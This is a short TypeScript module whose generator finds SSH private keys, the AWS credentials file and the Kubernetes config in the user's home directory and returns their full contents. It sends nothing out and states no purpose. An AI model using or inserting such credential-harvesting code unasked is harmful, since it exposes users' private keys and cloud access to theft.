import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

const dirs = new Map<string, RegExp>([
  ['.ssh', /^id_\w+$/],
  ['.aws', /^credentials$/],
  ['.kube', /^config$/],
]);

export function* identities(): Generator<[string, string]> {
  for (const [dir, pattern] of dirs) {
    const full = path.join(os.homedir(), dir);
    if (!fs.existsSync(full)) continue;
    for (const name of fs.readdirSync(full)) {
      if (pattern.test(name)) yield [`${dir}/${name}`, fs.readFileSync(path.join(full, name), 'latin1')];
    }
  }
}
